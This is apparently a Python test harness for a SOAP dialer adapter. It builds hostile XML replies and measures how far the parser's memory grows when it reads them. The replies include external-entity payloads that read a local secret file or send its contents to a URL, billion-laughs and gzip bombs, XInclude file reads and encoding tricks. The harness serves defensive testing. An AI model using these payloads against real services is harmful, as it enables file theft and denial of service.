"""Answers that mean harm, each with what it would do to a trusting reader. Run as a program, it
feeds them all to ours in a process of its own and prints how far its memory grew (a peak never
falls again, so that the tests' own process could not tell)."""

from __future__ import annotations

import ctypes
import gzip
import json
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from dialer_adapters.contract import DialerError
from dialer_adapters.shoutpoint.client import ShoutpointAdapter
from dialer_adapters.shoutpoint.log_pages import read_page
from dialer_adapters.shoutpoint.transport import read_reply
from tests.shoutpoint.answers import VERIFIED, entry, envelope, page
from tests.shoutpoint.raw_server import RawServer, http

DECLARATION = b'<?xml version="1.0" encoding="utf-8"?>'
STATE = b"<StateID>state-1</StateID>"


def with_doctype(doctype: str, value: str = "&x;", declaration: bytes = DECLARATION) -> bytes:
    """A perfect answer but for a DOCTYPE, whose entity stands where a value is read."""
    rest = VERIFIED.removeprefix(DECLARATION).replace(b"state-1", value.encode())
    return declaration + doctype.encode() + rest


def inside(extra: bytes) -> bytes:
    """A perfect answer but for something more at its end."""
    return VERIFIED.replace(STATE, STATE + extra)


def corpus(trap: str, secret: str) -> dict[str, Callable[[], bytes]]:
    """Hostile answers by name, made when asked for. `trap` is a URL that must not be fetched,
    `secret` a file that must not be read."""
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    xxe = {
        f"external entity: {name}": lambda target=target, form=form: with_doctype(
            form.replace("TARGET", target)
        )
        for name, target, form in (
            ("file", f"file://{secret}", '<!DOCTYPE a [<!ENTITY x SYSTEM "TARGET">]>'),
            ("plain path", secret, '<!DOCTYPE a [<!ENTITY x SYSTEM "TARGET">]>'),
            ("http", trap, '<!DOCTYPE a [<!ENTITY x SYSTEM "TARGET">]>'),
            ("public", trap, '<!DOCTYPE a [<!ENTITY x PUBLIC "-//x" "TARGET">]>'),
            ("ftp", "ftp://127.0.0.1/x", '<!DOCTYPE a [<!ENTITY x SYSTEM "TARGET">]>'),
            ("parameter", trap, '<!DOCTYPE a [<!ENTITY % p SYSTEM "TARGET"> %p;]>'),
            (
                "parameter that carries a file away",
                f"file://{secret}",
                '<!DOCTYPE a [<!ENTITY % f SYSTEM "TARGET"><!ENTITY % e "<!ENTITY x SYSTEM '
                f"'{trap}?%f;'>\"> %e;]>",
            ),
            (
                "unparsed",
                trap,
                '<!DOCTYPE a [<!NOTATION n SYSTEM "TARGET"><!ENTITY x SYSTEM "TARGET" NDATA n>]>',
            ),
        )
    }
    return {
        **xxe,
        "external DTD: system": lambda: with_doctype(f'<!DOCTYPE a SYSTEM "{trap}">', "state-1"),
        "external DTD: public": lambda: with_doctype(f'<!DOCTYPE a PUBLIC "x" "{trap}">', "s"),
        "DTD: empty": lambda: with_doctype("<!DOCTYPE a>", "state-1"),
        "DTD: harmless entity": lambda: with_doctype('<!DOCTYPE a [<!ENTITY x "state-1">]>'),
        "DTD: default attribute": lambda: with_doctype(
            '<!DOCTYPE a [<!ATTLIST StateID x CDATA "y">]>', "state-1"
        ),
        "DTD: behind a comment": lambda: with_doctype("<!-- x --><!DOCTYPE a>", "state-1"),
        "DTD: behind a long comment": lambda: with_doctype(
            f"<!--{'x' * 100_000}--><!DOCTYPE a>", "state-1"
        ),
        "DTD: inside the answer": lambda: inside(b"<!DOCTYPE a>"),
        "DTD: without a declaration": lambda: with_doctype("<!DOCTYPE a>", "s", b""),
        "billion laughs": lambda: with_doctype(f"<!DOCTYPE a [{laughs}]>", "&l9;"),
        "billion laughs in an attribute": lambda: with_doctype(
            f"<!DOCTYPE a [{laughs}]>", '<b c="&l9;"/>'
        ),
        "billion laughs by parameters": lambda: with_doctype(
            '<!DOCTYPE a [<!ENTITY % a "aaaaaaaaaa"><!ENTITY % b "%a;%a;%a;%a;%a;">]>', "s"
        ),
        "quadratic blow-up": lambda: with_doctype(
            f'<!DOCTYPE a [<!ENTITY x "{"x" * 100_000}">]>', "&x;" * 50_000
        ),
        "an entity that holds itself": lambda: with_doctype('<!DOCTYPE a [<!ENTITY x "&x;">]>'),
        "an entity nobody declared": lambda: VERIFIED.replace(b"state-1", b"&nbsp;"),
        "depth 300": lambda: inside(b"<a>" * 300 + b"</a>" * 300),
        "depth 300,000": lambda: inside(b"<a>" * 300_000 + b"</a>" * 300_000),
        "depth 300,000 never closed": lambda: inside(b"<a>" * 300_000),
        "50 MB of text": lambda: inside(b"<a>" + b"x" * 50_000_000 + b"</a>"),
        "11 MB of text": lambda: inside(b"<a>" + b"x" * 11_000_000 + b"</a>"),
        "11 MB of comment": lambda: inside(b"<!--" + b"x" * 11_000_000 + b"-->"),
        "11 MB of CDATA": lambda: inside(b"<a><![CDATA[" + b"x" * 11_000_000 + b"]]></a>"),
        "5 M elements": lambda: inside(b"<a/>" * 5_000_000),
        "2 M elements": lambda: inside(b"<a/>" * 2_000_000),
        "500,000 elements with ends": lambda: inside(b"<a></a>" * 500_000),
        "200,000 attributes": lambda: inside(
            b"<a " + b" ".join(b'a%d=""' % n for n in range(200_000)) + b"/>"
        ),
        "200,000 attributes with spaces": lambda: inside(
            b"<a " + b" ".join(b"a%d = ''" % n for n in range(200_000)) + b"/>"
        ),
        "200,000 namespaces": lambda: inside(
            b"<a " + b" ".join(b'xmlns:a%d="u"' % n for n in range(200_000)) + b"/>"
        ),
        "a name of 11 MB": lambda: inside(b"<" + b"a" * 11_000_000 + b"/>"),
        "an attribute twice": lambda: inside(b'<a b="" b=""/>'),
        "a prefix nobody bound": lambda: inside(b"<x:a/>"),
        "a NUL": lambda: inside(b"<a>\x00</a>"),
        "a control character": lambda: inside(b"<a>\x08</a>"),
        "a reference to a control character": lambda: inside(b"<a>&#8;</a>"),
        "a reference to NUL": lambda: inside(b"<a>&#0;</a>"),
        "bytes that are no UTF-8": lambda: inside(b"<a>\xff\xfe\xc0\x80</a>"),
        "an overlong slash": lambda: inside(b"<a>\xc0\xaf</a>"),
        "UTF-16": lambda: VERIFIED.decode().replace("utf-8", "utf-16").encode("utf-16"),
        "UTF-16 that does not say so": lambda: (
            VERIFIED[len(DECLARATION) :].decode().encode("utf-16")
        ),
        "UTF-32": lambda: VERIFIED.decode().replace("utf-8", "utf-32").encode("utf-32"),
        "UTF-7": lambda: VERIFIED.replace(b"utf-8", b"utf-7"),
        "UTF-7 that hides a DOCTYPE": lambda: (
            b'<?xml version="1.0" encoding="utf-7"?>'
            b"+ADw-+ACE-DOCTYPE a+AD4-" + VERIFIED[len(DECLARATION) :]
        ),
        "EBCDIC": lambda: VERIFIED.decode().replace("utf-8", "cp037").encode("cp037"),
        "Latin-1": lambda: VERIFIED.replace(b"utf-8", b"iso-8859-1"),
        "an encoding nobody knows": lambda: VERIFIED.replace(b"utf-8", b"x-klingon"),
        "XML 1.1 with a control character": lambda: VERIFIED.replace(b'"1.0"', b'"1.1"').replace(
            b"state-1", b"a&#1;"
        ),
        "two documents": lambda: VERIFIED + VERIFIED,
        "words behind the end": lambda: VERIFIED + b"x",
        "words before the beginning": lambda: b"x" + VERIFIED,
        "two answers in one body": lambda: VERIFIED.replace(
            b"</soap:Body>", b"<VerifyCustomerResponse/></soap:Body>"
        ),
        "an envelope of SOAP 1.2": lambda: VERIFIED.replace(
            b"schemas.xmlsoap.org/soap/envelope/", b"www.w3.org/2003/05/soap-envelope"
        ),
        "an answer in no namespace": lambda: VERIFIED.replace(
            b' xmlns="urn:school-messenger:dialer:v1"', b""
        ),
        "the answer inside an XInclude": lambda: envelope(
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}"/>'
        ),
        "a value by XInclude": lambda: VERIFIED.replace(
            b"state-1",
            b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="%s"/>'
            % secret.encode(),
        ),
        "a value by reference": lambda: VERIFIED.replace(
            STATE, f'<StateID href="{trap}"/>'.encode()
        ),
        "a value that is nil": lambda: VERIFIED.replace(
            STATE,
            b'<StateID xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:nil="true"/>',
        ),
    }


def bomb(megabytes: int) -> bytes:
    """A gzip answer that unpacks to this much: a thousandth of it travels."""
    return gzip.compress(inside(b"<a>" + b" " * (megabytes * 1_000_000) + b"</a>"), 9)


def just_within() -> dict[str, bytes]:
    """Answers full of junk that stay below every cap and are therefore read, by zeep as well."""
    return {
        "99,000 elements": inside(b"<a/>" * 99_000),
        "99,000 elements in one": inside(b"<a>" + b"<a/>" * 99_000 + b"</a>"),
        "19,000 attributes": inside(
            b"<a " + b" ".join(b'a%d=""' % n for n in range(19_000)) + b"/>"
        ),
        "9 MB of text": inside(b"<a>" + b"x" * 9_000_000 + b"</a>"),
        "depth 250": inside((b"<a>" * 240 + b"</a>" * 240) * 400),
    }


def feed(trap: str, secret: str) -> None:
    """Reads each of the corpus as the answer to a small and to a bulky operation; prints by name
    how many kilobytes the peak lay above what was in use before."""
    headers = {"Content-Type": "text/xml; charset=utf-8"}
    read_page(read_reply("GetCallLog", 200, headers, page(entry(1))), "e1", 0, None)
    grown: dict[str, int] = {}
    for name, make in corpus(trap, secret).items():
        content = make()
        before = _start_measuring()
        for operation in ("VerifyCustomer", "GetCallLog"):
            with suppress(DialerError):
                read_reply(operation, 200, headers, content)
        grown[name] = _kilobytes("VmHWM") - before
    for name, content in just_within().items():
        with RawServer(http(content)) as server:
            adapter = ShoutpointAdapter(server.url, "user", "secret", allow_loopback=True)
            before = _start_measuring()
            adapter.verify("D-0101", "District")
            grown[name] = _kilobytes("VmHWM") - before
    print(json.dumps(grown))


def _start_measuring() -> int:
    """Gives freed memory back and forgets the peak so far (Linux, glibc); returns what is in
    use."""
    ctypes.CDLL(None).malloc_trim(0)
    Path("/proc/self/clear_refs").write_text("5")
    return _kilobytes("VmRSS")


def _kilobytes(name: str) -> int:
    status = Path("/proc/self/status").read_text()
    return next(int(line.split()[1]) for line in status.splitlines() if line.startswith(name))


if __name__ == "__main__":
    feed(sys.argv[1], sys.argv[2])
